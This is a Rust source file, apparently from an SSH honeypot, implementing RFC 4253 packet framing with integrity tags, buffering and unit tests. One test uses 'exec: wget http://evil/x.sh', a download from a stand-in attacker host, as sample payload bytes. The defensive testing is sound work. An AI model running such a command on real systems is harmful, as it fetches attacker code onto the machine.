//! Binary Packet Protocol framing (RFC 4253 §6).
//!
//! Layout: `uint32 packet_length ‖ byte padding_length ‖ payload ‖ padding`
//! where `packet_length = 1 + len(payload) + len(padding)` and the total
//! size `4 + packet_length` is a multiple of the cipher block size (8 for
//! the "none" cipher). Padding is 4–255 bytes.
//!
//! After `SSH_MSG_NEWKEYS`, packets additionally carry a 16-byte integrity
//! tag: `SHA-256(session_key ‖ seq ‖ packet)[..16]`. Real SSH would encrypt
//! too; the honeypot deliberately does not (see crate docs).

use crate::SshError;
use hutil::Sha256;

/// Block granularity for the "none" cipher.
const BLOCK: usize = 8;
/// Minimum padding per RFC 4253.
const MIN_PAD: usize = 4;
/// Integrity tag length once keys are in effect.
pub const TAG_LEN: usize = 16;
/// Upper bound we accept for a single packet (RFC minimum requirement is
/// 35000; bots never legitimately exceed it).
pub const MAX_PACKET: usize = 35_000;

/// Framer/deframer for one direction of a connection.
///
/// Tracks the implicit packet sequence number and, once
/// [`PacketCodec::enable_integrity`] is called (on NEWKEYS), appends and
/// verifies tags. Both directions work in place: [`PacketCodec::seal`]
/// writes the packet straight onto the output queue, and
/// [`PacketCodec::open`] hands back the payload as a slice of the
/// receive buffer.
#[derive(Debug, Clone)]
pub struct PacketCodec {
    seq: u32,
    key: Option<[u8; 32]>,
}

impl Default for PacketCodec {
    fn default() -> Self {
        Self::new()
    }
}

impl PacketCodec {
    /// A codec in the initial (no integrity) state.
    pub fn new() -> Self {
        Self { seq: 0, key: None }
    }

    /// Switches on integrity tagging with the given session key. Applies to
    /// packets *after* this call, mirroring NEWKEYS semantics.
    pub fn enable_integrity(&mut self, key: [u8; 32]) {
        self.key = Some(key);
    }

    /// Current sequence number (next packet to be sealed/opened).
    pub fn seq(&self) -> u32 {
        self.seq
    }

    /// Appends one packet to `out`, advancing the sequence number:
    /// the header, the payload `write_payload` appends, the padding and,
    /// once keys are in effect, the tag.
    pub fn seal(&mut self, out: &mut Vec<u8>, write_payload: impl FnOnce(&mut Vec<u8>)) {
        let start = out.len();
        out.extend_from_slice(&[0; 5]); // length and padding length, set below
        write_payload(out);
        let payload_len = out.len() - start - 5;
        assert!(payload_len <= MAX_PACKET, "payload too large");
        // Choose padding so that 4 + 1 + payload + pad ≡ 0 (mod BLOCK).
        let unpadded = 4 + 1 + payload_len;
        let mut pad = BLOCK - (unpadded % BLOCK);
        while pad < MIN_PAD {
            pad += BLOCK;
        }
        let packet_length = (1 + payload_len + pad) as u32;
        out[start..start + 4].copy_from_slice(&packet_length.to_be_bytes());
        out[start + 4] = pad as u8;
        // Deterministic padding: a fixed rotating pattern keyed by seq. Real
        // implementations use random bytes; determinism aids replay tests
        // and the bytes are never interpreted.
        out.extend((0..pad).map(|i| (self.seq as usize + i) as u8));
        if let Some(key) = &self.key {
            let tag = integrity_tag(key, self.seq, &out[start..]);
            out.extend_from_slice(&tag);
        }
        self.seq = self.seq.wrapping_add(1);
    }

    /// Verifies the packet at the front of `buf` without consuming it.
    ///
    /// Returns `Ok(Some((payload, len)))` on success, where `payload`
    /// borrows from `buf` and `len` is the packet's size on the wire, tag
    /// included: the caller handles the payload, then drops `len` bytes.
    /// The sequence number advances. `Ok(None)` if `buf` does not yet
    /// hold a complete packet; `Err` on malformed framing or a bad tag.
    pub fn open<'a>(&mut self, buf: &'a [u8]) -> Result<Option<(&'a [u8], usize)>, SshError> {
        if buf.len() < 5 {
            return Ok(None);
        }
        let packet_length = u32::from_be_bytes([buf[0], buf[1], buf[2], buf[3]]) as usize;
        if !(1 + MIN_PAD..=MAX_PACKET).contains(&packet_length) {
            return Err(SshError::Framing(format!(
                "bad packet length {packet_length}"
            )));
        }
        if !(4 + packet_length).is_multiple_of(BLOCK) {
            return Err(SshError::Framing("packet not block-aligned".into()));
        }
        let tag_len = if self.key.is_some() { TAG_LEN } else { 0 };
        let total = 4 + packet_length + tag_len;
        if buf.len() < total {
            return Ok(None);
        }
        let pad = buf[4] as usize;
        if pad < MIN_PAD || pad + 1 > packet_length {
            return Err(SshError::Framing(format!("bad padding length {pad}")));
        }
        if let Some(key) = &self.key {
            let (body, got) = buf[..total].split_at(4 + packet_length);
            if got != integrity_tag(key, self.seq, body) {
                return Err(SshError::Framing("integrity tag mismatch".into()));
            }
        }
        self.seq = self.seq.wrapping_add(1);
        Ok(Some((&buf[5..4 + packet_length - pad], total)))
    }
}

/// Feeds a machine the bytes `data` brought, copying only what it
/// leaves incomplete. `pending` holds what earlier input left: part of a
/// version line or of a packet. With nothing pending, `consume` reads
/// `data` where it lies; otherwise `data` joins `pending` first.
/// `consume` handles what is complete at the front of the bytes it is
/// given and returns how many of them it used; the rest is kept.
pub(crate) fn feed(
    pending: &mut Vec<u8>,
    data: &[u8],
    consume: impl FnOnce(&[u8]) -> Result<usize, SshError>,
) -> Result<(), SshError> {
    if pending.is_empty() {
        let used = consume(data)?;
        pending.extend_from_slice(&data[used..]);
    } else {
        pending.extend_from_slice(data);
        let used = consume(pending)?;
        pending.drain(..used);
    }
    Ok(())
}

/// Splits one `\n`-terminated line off the front of `buf`: the line
/// without its line end (and a `\r` before it), and the bytes it took.
pub(crate) fn split_line(buf: &[u8]) -> Option<(&[u8], usize)> {
    let pos = buf.iter().position(|&b| b == b'\n')?;
    let line = &buf[..pos];
    Some((line.strip_suffix(b"\r").unwrap_or(line), pos + 1))
}

fn integrity_tag(key: &[u8; 32], seq: u32, packet: &[u8]) -> [u8; TAG_LEN] {
    let mut h = Sha256::new();
    h.update(key);
    h.update(&seq.to_be_bytes());
    h.update(packet);
    let full = h.finalize();
    let mut tag = [0u8; TAG_LEN];
    tag.copy_from_slice(&full[..TAG_LEN]);
    tag
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sealed(tx: &mut PacketCodec, payload: &[u8]) -> Vec<u8> {
        let mut wire = Vec::new();
        tx.seal(&mut wire, |b| b.extend_from_slice(payload));
        wire
    }

    #[test]
    fn roundtrip_various_sizes() {
        let mut tx = PacketCodec::new();
        let mut rx = PacketCodec::new();
        for n in [0usize, 1, 7, 8, 9, 255, 256, 1000] {
            let payload: Vec<u8> = (0..n).map(|i| i as u8).collect();
            let wire = sealed(&mut tx, &payload);
            assert_eq!((wire.len()) % BLOCK, 0, "wire not block aligned for n={n}");
            let (got, len) = rx.open(&wire).unwrap().expect("complete packet");
            assert_eq!(got, &payload[..]);
            assert_eq!(len, wire.len());
        }
    }

    #[test]
    fn seal_appends_to_what_the_queue_holds() {
        let mut tx = PacketCodec::new();
        let mut queue = b"SSH-2.0-x\r\n".to_vec();
        tx.seal(&mut queue, |b| b.extend_from_slice(b"one"));
        let one = sealed(&mut PacketCodec::new(), b"one");
        assert_eq!(&queue[..11], b"SSH-2.0-x\r\n");
        assert_eq!(&queue[11..], &one[..]);
    }

    #[test]
    fn partial_input_returns_none_and_keeps_the_sequence() {
        let mut tx = PacketCodec::new();
        let wire = sealed(&mut tx, b"hello world");
        let mut rx = PacketCodec::new();
        for cut in 0..wire.len() {
            assert_eq!(rx.open(&wire[..cut]).unwrap(), None, "cut={cut}");
            assert_eq!(rx.seq(), 0, "cut={cut}");
        }
        assert!(rx.open(&wire).unwrap().is_some());
        assert_eq!(rx.seq(), 1);
    }

    #[test]
    fn multiple_packets_in_one_buffer() {
        let mut tx = PacketCodec::new();
        let mut buf = sealed(&mut tx, b"one");
        buf.extend_from_slice(&sealed(&mut tx, b"two"));
        let mut rx = PacketCodec::new();
        let (one, len) = rx.open(&buf).unwrap().unwrap();
        assert_eq!(one, b"one");
        let (two, len2) = rx.open(&buf[len..]).unwrap().unwrap();
        assert_eq!(two, b"two");
        assert_eq!(len + len2, buf.len());
        assert_eq!(rx.open(&buf[len + len2..]).unwrap(), None);
    }

    #[test]
    fn integrity_tag_detects_flips() {
        let key = [7u8; 32];
        let mut tx = PacketCodec::new();
        tx.enable_integrity(key);
        let wire = sealed(&mut tx, b"exec: wget http://evil/x.sh");
        let mut rx = PacketCodec::new();
        rx.enable_integrity(key);
        // Pristine copy opens fine.
        assert!(rx.clone().open(&wire).unwrap().is_some());
        // Any single bit flip in the body is caught.
        for i in [5usize, 10, wire.len() - TAG_LEN - 1] {
            let mut bad = wire.clone();
            bad[i] ^= 1;
            assert!(
                matches!(rx.clone().open(&bad), Err(SshError::Framing(_))),
                "flip at {i} not caught"
            );
        }
    }

    #[test]
    fn integrity_requires_matching_seq() {
        let key = [1u8; 32];
        let mut tx = PacketCodec::new();
        tx.enable_integrity(key);
        let _skip = sealed(&mut tx, b"first");
        let second = sealed(&mut tx, b"second");
        let mut rx = PacketCodec::new();
        rx.enable_integrity(key);
        // rx is at seq 0 but the packet was sealed at seq 1 → replay detected.
        assert!(matches!(rx.open(&second), Err(SshError::Framing(_))));
    }

    #[test]
    fn rejects_hostile_lengths() {
        let mut rx = PacketCodec::new();
        // Absurd length field.
        let absurd = [0xff, 0xff, 0xff, 0xff, 0x04, 0, 0, 0];
        assert!(matches!(rx.open(&absurd), Err(SshError::Framing(_))));
        // Padding claims more than the packet holds.
        let mut evil = sealed(&mut PacketCodec::new(), b"x");
        evil[4] = 0xff;
        assert!(matches!(rx.open(&evil), Err(SshError::Framing(_))));
    }

    #[test]
    fn feed_buffers_only_the_incomplete_tail() {
        let mut tx = PacketCodec::new();
        let mut wire = sealed(&mut tx, b"one");
        wire.extend_from_slice(&sealed(&mut tx, b"two"));
        let mut rx = PacketCodec::new();
        let mut got = Vec::new();
        let mut consume = |bytes: &[u8]| {
            let mut used = 0;
            while let Some((payload, len)) = rx.open(&bytes[used..])? {
                got.push(payload.to_vec());
                used += len;
            }
            Ok(used)
        };
        // The first packet and three bytes of the second arrive together.
        let first = wire.len() / 2 + 3;
        let mut pending = Vec::new();
        feed(&mut pending, &wire[..first], &mut consume).unwrap();
        assert_eq!(pending, &wire[wire.len() / 2..first]);
        feed(&mut pending, &wire[first..], &mut consume).unwrap();
        assert!(pending.is_empty());
        assert_eq!(got, [b"one".to_vec(), b"two".to_vec()]);
    }

    #[test]
    fn split_line_handles_crlf_and_partial() {
        assert_eq!(
            split_line(b"SSH-2.0-x\r\nrest"),
            Some((&b"SSH-2.0-x"[..], 11))
        );
        assert_eq!(
            split_line(b"SSH-2.0-y\nrest"),
            Some((&b"SSH-2.0-y"[..], 10))
        );
        assert_eq!(split_line(b"rest"), None);
    }
}
